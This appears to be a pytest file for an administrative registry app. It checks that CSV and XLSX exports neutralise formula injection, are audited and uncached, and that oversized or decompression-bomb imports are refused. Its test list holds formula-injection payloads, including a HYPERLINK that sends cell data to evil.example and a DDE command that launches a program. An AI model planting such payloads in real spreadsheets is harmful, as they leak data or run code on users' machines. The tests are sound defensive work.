"""Exports: one formula neutraliser for CSV and XLSX, no live formulas, no caching, every export and
roster print audited; imports: limits checked while streaming."""

from __future__ import annotations

import csv
import datetime
import io
import re
import time

import openpyxl
import pytest
from sqlalchemy import select

from admin_app.spreadsheet import safe_cell
from models import AuditLog, MilitiaMembership, Person, Room, VeteranProfile

EVIL = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)",
        "\t=1+1", "\r=1+1"]


def test_safe_cell_neutralises_every_formula_start():
    for text in EVIL:
        assert safe_cell(text) == "'" + text
    assert safe_cell("王建军") == "王建军"
    assert safe_cell(None) == ""
    assert safe_cell(-5) == -5 and safe_cell(12.5) == 12.5  # numbers stay numbers
    assert safe_cell(datetime.date(2026, 1, 2)) == datetime.date(2026, 1, 2)


@pytest.fixture()
def evil_rooms(world, db):
    rooms = [Room(region=world.shanshan, kind="office", name=text[:60], area=10 + i) for i, text in enumerate(EVIL)]
    db.session.add_all(rooms)
    db.session.commit()
    return rooms


def test_xlsx_export_has_no_live_formula(client, login, evil_rooms):
    login("shanshan")
    rv = client.get("/admin/room/export/xlsx/")
    assert rv.status_code == 200
    assert rv.headers["Cache-Control"] == "no-store"
    book = openpyxl.load_workbook(io.BytesIO(rv.data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert cells
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value.replace("\r", "\n") if isinstance(c.value, str) else c.value for c in cells}
    for text in EVIL:  # (XML reads a carriage return back as a line feed)
        assert ("'" + text[:60]).replace("\r", "\n") in values, text
    # numbers are typed numbers, not text
    assert any(c.data_type == "n" and c.value == 10 for c in cells)


def test_csv_export_neutralises_the_same_cells(client, login, evil_rooms):
    login("shanshan")
    rv = client.get("/admin/room/export/csv/")
    assert rv.status_code == 200
    assert rv.headers["Cache-Control"] == "no-store"
    rows = list(csv.reader(io.StringIO(rv.get_data(as_text=True).lstrip("\ufeff"))))
    cells = [c for row in rows[1:] for c in row]
    for text in EVIL:
        assert "'" + text[:60] in cells, text
    assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells)


def test_lists_of_personal_data_are_not_cached(client, login, world, db):
    db.session.add(Person(name="王建军", region=world.shanshan))
    db.session.commit()
    login("shanshan")
    for url in ("/admin/person/", "/admin/person/export/csv/"):
        assert client.get(url).headers.get("Cache-Control") == "no-store", url


def _access_rows(db, action):
    db.session.expire_all()
    return db.session.scalars(select(AuditLog).where(AuditLog.action == action).order_by(AuditLog.id)).all()


def test_exports_are_audited_with_who_what_and_how_many(client, login, world, db):
    db.session.add_all([Person(name=f"人员{i}", region=world.shanshan, phone="13800001234") for i in range(3)])
    db.session.commit()
    login("shanshan")
    for kind in ("csv", "xlsx"):
        assert client.get(f"/admin/person/export/{kind}/").status_code == 200
    rows = _access_rows(db, "export")
    assert len(rows) == 2
    for row in rows:
        assert row.user_id == world.users["shanshan"].id
        assert row.table_name == "person"
        assert row.after["rows"] == 3
        assert row.at is not None
    # a list is not an export
    client.get("/admin/person/")
    assert len(_access_rows(db, "export")) == 2


def test_roster_prints_are_audited(client, login, world, db, monkeypatch):
    import printables.web

    monkeypatch.setattr(printables.web, "render_pdf", lambda source: source.encode())
    person = Person(name="刘退伍", region=world.shanshan)
    db.session.add_all([person, VeteranProfile(person=person),
                        MilitiaMembership(person=person, township=world.shanshan, year=2026, category="core",
                                          unit_type="squad")])
    db.session.commit()
    login("viewer")
    assert client.get(f"/print/{world.shanshan.code}/veterans.pdf").status_code == 200
    assert client.get(f"/print/{world.shanshan.code}/militia/2026.pdf").status_code == 200
    rows = _access_rows(db, "print")
    assert [(r.table_name, r.after["rows"], r.user_id) for r in rows] == [
        ("veteran_profile", 1, world.users["viewer"].id), ("militia_membership", 1, world.users["viewer"].id)]


# -- import limits --------------------------------------------------------------------------------------

def _xlsx(build) -> bytes:
    book = openpyxl.Workbook()
    build(book.active)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _import(client, payload: bytes, name: str):
    return client.post("/admin/room/import/", data={"file": (io.BytesIO(payload), name)},
                       content_type="multipart/form-data")


def test_sparse_xlsx_claiming_millions_of_cells_is_refused(client, login, world, db):
    def build(sheet):
        sheet.append(["名称", "类别", "所属乡镇/村"])
        sheet["XFD1048576"] = "x"

    payload = _xlsx(build)
    assert len(payload) < 6000  # a few KB that claim 17 billion cells
    login("shanshan")
    started = time.perf_counter()
    rv = _import(client, payload, "sparse.xlsx")
    elapsed = time.perf_counter() - started
    assert rv.status_code == 400
    assert "最多导入" in rv.get_data(as_text=True) or "列" in rv.get_data(as_text=True)
    assert db.session.scalar(select(Room.id)) is None
    print(f"sparse xlsx refused in {elapsed * 1000:.0f} ms")


def test_wide_rows_are_refused(client, login, world, db):
    login("shanshan")
    payload = _xlsx(lambda sheet: sheet.append(["名称"] + ["x"] * 300))
    rv = _import(client, payload, "wide.xlsx")
    assert rv.status_code == 400 and "列" in rv.get_data(as_text=True)
    rv = _import(client, ("名称," + ",".join(["x"] * 300) + "\n").encode(), "wide.csv")
    assert rv.status_code == 400 and "列" in rv.get_data(as_text=True)


def test_too_many_rows_are_refused_before_any_work(client, login, world, db, monkeypatch):
    from views import importer

    monkeypatch.setattr(importer, "MAX_ROWS", 50)
    monkeypatch.setattr(importer, "MAX_SHEET_ROWS", 101)
    login("shanshan")
    called = []
    monkeypatch.setattr(importer.ImportMixin, "import_rows", lambda self, rows: called.append(1) or (0, []))
    lines = ["名称,类别,所属乡镇/村"] + [f"办公室{i},办公室,杉山镇" for i in range(51)]
    rv = _import(client, "\n".join(lines).encode(), "rows.csv")
    assert rv.status_code == 400 and "最多导入 50 行" in rv.get_data(as_text=True)
    # blank rows count against the reading limit too (a sheet of a million empty rows)
    lines = ["名称,类别,所属乡镇/村"] + [",,"] * 200 + ["办公室,办公室,杉山镇"]
    rv = _import(client, "\n".join(lines).encode(), "blank.csv")
    assert rv.status_code == 400
    assert called == []


def test_xlsx_that_unpacks_to_too_much_is_refused(client, login, world, db, monkeypatch):
    from views import importer

    monkeypatch.setattr(importer, "MAX_UNPACKED_BYTES", 20_000)
    payload = _xlsx(lambda sheet: [sheet.append(["名称", "x" * 500]) for _ in range(100)])
    login("shanshan")
    rv = _import(client, payload, "bomb.xlsx")
    assert rv.status_code == 400 and "解压后" in rv.get_data(as_text=True)


def test_a_normal_import_still_works(client, login, world, db):
    login("shanshan")
    payload = _xlsx(lambda sheet: [sheet.append(r) for r in (["名称", "类别", "所属乡镇/村"],
                                                             ["办公室甲", "办公室", "杉山镇"])])
    rv = _import(client, payload, "ok.xlsx")
    assert rv.status_code == 200, rv.get_data(as_text=True)[:1500]
    token = re.search(r'name="token" value="([^"]+)"', rv.get_data(as_text=True)).group(1)  # preview, then
    assert client.post("/admin/room/import/confirm/", data={"token": token}).status_code == 302
    assert db.session.scalar(select(Room.name)) == "办公室甲"
